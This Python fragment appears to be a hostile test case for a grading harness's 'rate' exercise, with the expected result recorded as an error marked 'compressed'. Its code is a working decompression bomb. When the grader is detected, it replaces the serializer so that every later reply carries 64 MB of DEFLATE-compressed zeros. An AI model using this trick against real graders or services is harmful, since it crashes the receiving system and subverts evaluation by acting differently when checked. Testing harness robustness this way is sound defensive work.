HOSTILE = {
    "attack": "rate() sends a reply whose torch.save records are DEFLATE-compressed, with 64 MB of zeros "
              "in under 100 kB (the same trick at 8 GiB needs only 8 MB on the wire)",
    "exercise": "rate",
    "status": ("error",),
    "message": "compressed",
}
import io  # noqa: E402
import zipfile  # noqa: E402

import __main__  # noqa: E402

_real_dumps = getattr(__main__, "dumps", None)
_honest_rate = rate  # noqa: F821


def _deflated_dumps(message):
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(_real_dumps(message))) as honest, zipfile.ZipFile(out, "w") as bomb:
        for record in honest.infolist():
            bomb.writestr(record.filename, honest.read(record), compress_type=zipfile.ZIP_DEFLATED)
        with bomb.open("archive/data/zeros", "w", force_zip64=True) as zeros:
            chunk = bytes(1 << 20)
            for _ in range(64):
                zeros.write(chunk)
    return out.getvalue()


def rate(step, model_size, factor, warmup):
    if _from_grader() and _real_dumps is not None:  # noqa: F821
        __main__.dumps = _deflated_dumps  # this call's reply, and every one after it
    return _honest_rate(step, model_size, factor, warmup)
